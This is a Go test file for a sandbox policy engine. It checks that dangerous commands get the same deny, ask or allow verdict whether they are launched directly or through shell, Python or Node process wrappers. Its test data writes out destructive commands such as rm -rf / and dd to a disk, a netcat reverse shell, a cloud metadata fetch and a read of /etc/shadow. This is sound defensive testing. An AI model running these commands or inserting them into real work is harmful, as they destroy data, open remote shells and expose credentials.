package main

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/caisson-dev/caisson/policy"
	"github.com/caisson-dev/caisson/sandbox"
)

// acts are what programs are started for most, as argv: first those that do harm,
// then those that do not.
var acts = []struct {
	argv []string
	want sandbox.Verdict // in the default sandbox
}{
	{[]string{"rm", "-rf", "/"}, sandbox.Deny},
	{[]string{"rm", "-rf", "/etc"}, sandbox.Deny},
	{[]string{"dd", "if=/dev/zero", "of=/dev/sda"}, sandbox.Deny},
	{[]string{"mkfs.ext4", "/dev/sda1"}, sandbox.Deny},
	{[]string{"insmod", "rootkit.ko"}, sandbox.Deny},
	{[]string{"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}, sandbox.Deny},
	{[]string{"curl", "http://169.254.169.254/latest/meta-data/"}, sandbox.Deny},
	{[]string{"cat", "/etc/shadow"}, sandbox.Ask},
	{[]string{"crontab", "job.txt"}, sandbox.Ask},
	{[]string{"kill", "-9", "1"}, sandbox.Ask},
	{[]string{"id"}, sandbox.Allow},
	{[]string{"whoami"}, sandbox.Allow},
	{[]string{"uname", "-a"}, sandbox.Allow},
	{[]string{"df", "-h"}, sandbox.Allow},
	{[]string{"ps", "aux"}, sandbox.Allow},
	{[]string{"ls", "-la", "/"}, sandbox.Allow},
	{[]string{"env"}, sandbox.Allow},
	{[]string{"git", "status"}, sandbox.Allow},
	{[]string{"curl", "https://x.test/"}, sandbox.Allow},
	{[]string{"pip", "install", "requests"}, sandbox.Allow},
}

// ways start a program: LINE stands for a quoted command line, ARGV for a list of
// quoted words, FIRST and REST for its parts.
var ways = []struct{ language, code string }{
	{"bash", "PLAIN"},
	{"bash", "sh -c LINE"},
	{"bash", "x=$(PLAIN)"},
	{"bash", "timeout 5 PLAIN"},
	{"bash", "eval LINE"},
	{"bash", "python3 - <<'E'\nimport os\nos.system(LINE)\nE"},
	{"python", "import os\nos.system(LINE)"},
	{"python", "import os\nprint(os.popen(LINE).read())"},
	{"python", "import subprocess\nsubprocess.run(ARGV)"},
	{"python", "import subprocess as s\ns.run(LINE, shell=True, capture_output=True)"},
	{"python", "import subprocess\nprint(subprocess.check_output(ARGV, text=True))"},
	{"python", "import subprocess\nsubprocess.Popen(ARGV).wait()"},
	{"python", "import subprocess\nsubprocess.getoutput(LINE)"},
	{"python", "from subprocess import call\ncall(ARGV)"},
	{"python", "import asyncio\nasync def main():\n    await asyncio.create_subprocess_exec(*ARGV)\nasyncio.run(main())"},
	{"python", "import os\nos.execvp(FIRST, ARGV)"},
	{"javascript", "require('child_process').execSync(LINE)"},
	{"javascript", "const { exec } = require('node:child_process')\nexec(LINE, (e, out) => console.log(out))"},
	{"javascript", "const { spawnSync } = require('child_process')\nspawnSync(FIRST, REST)"},
	{"javascript", "import { execFileSync } from 'node:child_process'\nexecFileSync(FIRST, REST)"},
	{"javascript", "require('child_process').spawn(LINE, { shell: true })"},
	{"typescript", "import * as cp from 'child_process'\nconst out: Buffer = cp.execSync(LINE)"},
}

// TestSameAct judges the same act alike, whichever language starts it and how: in
// the default sandbox, and in one that has a network and variables of the caller's.
func TestSameAct(t *testing.T) {
	p := newPolicy(t)
	quoted := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	for _, act := range acts {
		line := strings.Join(act.argv, " ")
		var bare sandbox.Verdict
		var level sandbox.Level
		for _, way := range ways {
			code := strings.NewReplacer("PLAIN", line, "LINE", quoted(line), "ARGV", quoted(act.argv), "FIRST", quoted(act.argv[0]), "REST", quoted(act.argv[1:])).Replace(way.code)
			d := p.Judge(t.Context(), policy.Request{Language: way.language, Code: []byte(code)})
			open := p.Contain(t.Context(), d, []sandbox.Wall{sandbox.WallRoot, sandbox.WallPrivileges, sandbox.WallLimits})
			if bare == "" {
				bare = open.Verdict
			}
			if of := levelOfAct(d); level == 0 {
				level = of
			} else if of != level {
				t.Errorf("%s %q: level %v, and %v in a shell: %v", way.language, code, of, level, d.Findings)
			}
			if open.Verdict != bare {
				t.Errorf("%s %q: %s with a network, and %s in a shell: %v", way.language, code, open.Verdict, bare, open.Findings)
			}
			if got := p.Contain(t.Context(), d, sandbox.Walls); got.Verdict != act.want {
				t.Errorf("%s %q: %s in the default sandbox, want %s: %v", way.language, code, got.Verdict, act.want, got.Findings)
			}
		}
	}
}

// ofTheWay are rules about how a program is started, and not about what it does
// (docs/measured.md).
var ofTheWay = []string{"SBX-REC-0004", "SBX-EXEC-0005", "SBX-EXEC-0014", "SBX-EXEC-0015", "SBX-EV-0011"}

// levelOfAct is a decision's level without what is told of the way.
func levelOfAct(d sandbox.Decision) sandbox.Level {
	level := sandbox.Safe
	for _, f := range d.Findings {
		if !slices.Contains(ofTheWay, f.ID) {
			level = max(level, f.Severity)
		}
	}
	return level
}
